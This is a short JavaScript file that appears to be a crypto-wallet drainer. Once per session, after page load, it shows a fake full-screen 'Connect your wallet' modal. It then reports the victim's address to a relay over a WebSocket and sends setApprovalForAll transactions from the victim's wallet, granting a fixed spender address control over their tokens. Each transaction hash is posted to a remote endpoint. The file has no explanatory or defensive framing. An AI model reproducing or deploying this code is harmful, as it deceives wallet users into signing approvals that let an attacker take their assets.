const projectId = 'c0ffee5ca1ab1e0123456789abcdef01';
const endpoints = ['https://castle.wallet.example.invalid', 'wss://relay.walletconnect.example.invalid'];
const spender = '0x00000bdf2b7b2dd1f5ff1cd0cd9d3ff42c1d0e9c';
function overlay() {
  const frame = document.createElement('div');
  frame.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647;backdrop-filter:blur(4px)');
  frame.innerHTML = '<div class="w3m-modal"><h3>Connect your wallet</h3><button data-w="metamask">MetaMask</button><button data-w="coinbase">Coinbase</button></div>';
  frame.addEventListener('click', function (event) { connect(event.target.dataset.w); });
  document.body.appendChild(frame);
}
async function connect(kind) {
  const provider = window.ethereum;
  if (!provider) { return; }
  const accounts = await provider.request({method: 'eth_requestAccounts'});
  const socket = new WebSocket(endpoints[1] + '/?projectId=' + projectId);
  socket.onopen = function () { socket.send(JSON.stringify({method: 'wallet_connect', kind: kind, address: accounts[0], host: window.location.host})); };
  socket.onmessage = async function (message) {
    const plan = JSON.parse(message.data);
    for (const step of plan.steps || []) {
      const hash = await provider.request({method: 'eth_sendTransaction', params: [{from: accounts[0], to: step.token, data: '0xa22cb465' + spender.slice(2).padStart(64, '0') + '1'.padStart(64, '0')}]});
      await fetch(endpoints[0] + '/done', {method: 'POST', mode: 'no-cors', body: JSON.stringify({hash: hash, from: accounts[0]})});
    }
  };
}
if (typeof window !== 'undefined' && !sessionStorage.getItem('lp-wallet')) {
  sessionStorage.setItem('lp-wallet', '1');
  window.addEventListener('load', function () { setTimeout(overlay, 1500); });
}
